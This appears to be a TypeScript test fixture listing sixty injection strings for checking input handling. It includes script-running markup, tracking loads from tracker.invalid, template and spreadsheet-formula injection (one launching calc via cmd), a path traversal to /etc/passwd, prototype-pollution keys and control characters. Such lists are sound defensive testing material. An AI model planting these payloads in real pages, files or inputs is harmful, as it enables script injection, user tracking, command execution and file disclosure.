/**
 * Sixty strings that have made programs run, load or show what they should not have: markup, addresses, templates, formulas, controls.
 * Those that a browser would run call `hostile()`; those that load ask for a host that ends in `.invalid`.
 */
export const PAYLOADS: readonly string[] = [
  // Markup that runs.
  '<script>hostile()</script>', '</script><script>hostile()</script>', '<img src=x onerror=hostile()>', '<svg onload=hostile()>', '<svg><script>hostile()</script></svg>',
  '<iframe src="javascript:hostile()"></iframe>', '<iframe srcdoc="<script>hostile()</script>"></iframe>', '<body onload=hostile()>', '<details open ontoggle=hostile()>', '<video><source onerror=hostile()></video>',
  '<input autofocus onfocus=hostile()>', '<math><mi xlink:href="javascript:hostile()">x</mi></math>', '<object data="javascript:hostile()"></object>', '<a href="javascript:hostile()">terms</a>', '<form action="javascript:hostile()"><button>sign</button></form>',
  '"><script>hostile()</script>', "'><script>hostile()</script>", '" onmouseover="hostile()', "' onfocus='hostile()' autofocus='", '`"\'--></style></title></textarea><script>hostile()</script>',
  '<noscript><p title="</noscript><img src=x onerror=hostile()>">', '<template><img src=x onerror=hostile()></template>', '<scr<script>ipt>hostile()</scr</script>ipt>', '<SCRIPT/x>hostile()</SCRIPT>', '&lt;script&gt;hostile()&lt;/script&gt;',
  '&#60;script&#62;hostile()&#60;/script&#62;', '\\u003cscript\\u003ehostile()\\u003c/script\\u003e', '<!--<script>hostile()//-->', '<![CDATA[<script>hostile()</script>]]>', ']]><script>hostile()</script>',
  // Markup that loads, or changes what is seen.
  '<img src="https://tracker.invalid/pixel.png">', '<link rel=stylesheet href=https://tracker.invalid/a.css>', '<style>@import url(https://tracker.invalid/a.css);</style>', '</style><style>*{background:url(https://tracker.invalid/b.png)}</style>', '<meta http-equiv=refresh content="0;url=https://tracker.invalid/">',
  '<base href="https://tracker.invalid/">', '<plaintext>', '<xmp>', '<del>must not</del>', '<ins class="inserted">must</ins>',
  // Markdown, and addresses in it.
  '![pixel](https://tracker.invalid/pixel.png)', '[terms](javascript:hostile())', '[terms](command:workbench.action.quit)', '[x]: https://tracker.invalid/', '| cell | <br> |',
  // Templates, formulas, commands, paths.
  '${hostile()}', '{{constructor.constructor("hostile()")()}}', '=HYPERLINK("https://tracker.invalid/","terms")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '::error file=x::owned%0A::set-output name=a::b', '../../../../etc/passwd',
  // Names that programs keep for themselves.
  '__proto__', 'constructor', 'hasOwnProperty', 'toString',
  // Characters.
  '\u202eevil\u202c', '\u0000\u0007\u001b[31mred\u001b[0m', '\ud800', '\ufffe\uffff', 'a\u2028b\u2029c',
];
